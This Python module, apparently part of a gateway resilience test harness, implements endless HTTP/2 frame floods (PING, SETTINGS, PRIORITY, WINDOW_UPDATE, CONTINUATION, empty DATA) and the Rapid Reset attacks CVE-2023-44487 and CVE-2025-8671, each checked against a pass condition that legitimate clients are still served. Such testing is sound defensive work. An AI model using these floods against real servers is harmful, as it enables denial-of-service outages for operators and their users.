"""Endless HTTP/2 frames that are cheap for the sender and request nothing."""
import time
from functools import partial

from harness import gateway, http2, tls
from harness.assault import until_first_ends
from harness.bounds import closed_or_cheap, holder_is_served
from harness.stage import Attack

# The bytes of one write.
BUFFER = 32 * 1024


async def flood(assault, frames, reads=True):
    """Sends the buffers of `frames` on one connection, and opens a new one when it is closed."""
    context = tls.context(protocols=("h2",))

    async def once():
        async with assault.http2(context, assault.source(), http2.DEFAULT_WINDOW) as client:
            begin = time.monotonic()
            try:
                await until_first_ends(client.receive() if reads else assault.pause(3600), send(client))
            finally:
                assault.tally.lifetimes.append(time.monotonic() - begin)

    async def send(client):
        make = frames(client)
        while True:
            await client.connection.send(next(make))
            # Sending may never wait, and the reading task must run too.
            await assault.pause(0)

    await assault.again_and_again(once)


def repeated(frame):
    """An endless repetition of one frame."""

    def frames(_client):
        buffer = frame * (BUFFER // len(frame))
        while True:
            yield buffer

    return frames


def priorities(_client):
    """PRIORITY frames for streams that are idle."""
    while True:
        numbers = range(1, BUFFER // 14 * 2, 2)
        yield b"".join(http2.frame(http2.PRIORITY, 0, number, b"\0\0\0\0\x10") for number in numbers)


def window_updates(_client):
    """WINDOW_UPDATE frames for the connection, with the smallest increment."""
    yield from repeated(http2.window_update(0, 1))(_client)


def settings_of_windows(client):
    """SETTINGS frames that change the windows of a hundred open streams."""
    block = http2.request_block("POST", gateway.IGNORED)
    yield b"".join(http2.headers(client.new_stream(), block, end_stream=False) for _ in range(100))
    pair = http2.settings(window=1) + http2.settings(window=70000)
    yield from repeated(pair)(client)


def resets(client):
    """Requests that the client resets at once (CVE-2023-44487)."""
    block = http2.request_block("GET", gateway.IGNORED)
    while True:
        buffer = b""
        while len(buffer) < BUFFER:
            stream = client.new_stream()
            buffer += http2.headers(stream, block) + http2.reset(stream)
        client.open_streams.clear()
        yield buffer


def provoked_resets(client):
    """Requests followed by a window overflow, so that the gateway resets the stream (CVE-2025-8671)."""
    block = http2.request_block("GET", gateway.IGNORED)
    while True:
        buffer = b""
        while len(buffer) < BUFFER:
            stream = client.new_stream()
            buffer += http2.headers(stream, block) + http2.window_update(stream, http2.LARGEST_WINDOW)
        client.open_streams.clear()
        yield buffer


def continuations(client):
    """A header block that never ends."""
    yield http2.frame(http2.HEADERS, 0, client.new_stream(), http2.request_block("GET", gateway.IGNORED))
    piece = b"".join(http2.field(f"x-{number:04}", "v" * 20) for number in range(400))[:16000]
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, piece)


def empty_continuations(client):
    """A header block that never ends, in empty frames."""
    yield http2.frame(http2.HEADERS, 0, client.new_stream(), http2.request_block("GET", gateway.IGNORED))
    yield from repeated(http2.frame(http2.CONTINUATION, 0, 1))(client)


def empty_data(client):
    """A body of DATA frames without content."""
    stream = client.new_stream()
    yield http2.headers(stream, http2.request_block("POST", gateway.IGNORED), end_stream=False)
    yield from repeated(http2.frame(http2.DATA, 0, stream))(client)


FLOODS = {
    "ping": ("PING frames", repeated(http2.frame(http2.PING, 0, 0, b"12345678"))),
    "ping-acknowledgements": ("unsolicited PING acknowledgements", repeated(http2.frame(http2.PING, http2.ACK, 0, b"12345678"))),
    "settings": ("SETTINGS frames", repeated(http2.settings())),
    "settings-windows": ("SETTINGS frames that change the window of 100 streams", settings_of_windows),
    "priority": ("PRIORITY frames", priorities),
    "window": ("WINDOW_UPDATE frames", window_updates),
    "unknown": ("frames of an unknown type", repeated(http2.frame(http2.UNKNOWN, 0, 0))),
    "resets": ("requests that are reset at once", resets),
    "provoked-resets": ("requests that the gateway has to reset", provoked_resets),
    "continuation": ("CONTINUATION frames", continuations),
    "empty-continuation": ("empty CONTINUATION frames", empty_continuations),
    "empty-data": ("empty DATA frames", empty_data),
}

ATTACKS = [
    Attack(f"flood-{name}", f"endless {words}", partial(flood, frames=frames), (holder_is_served, closed_or_cheap(5, 5)))
    for name, (words, frames) in FLOODS.items()
]
ATTACKS += [
    Attack(
        f"flood-{name}-unread", f"endless {words}, and the client reads nothing",
        partial(flood, frames=frames, reads=False), (holder_is_served, closed_or_cheap(5, 5)),
    )
    for name, (words, frames) in FLOODS.items() if name in ("ping", "settings")
]
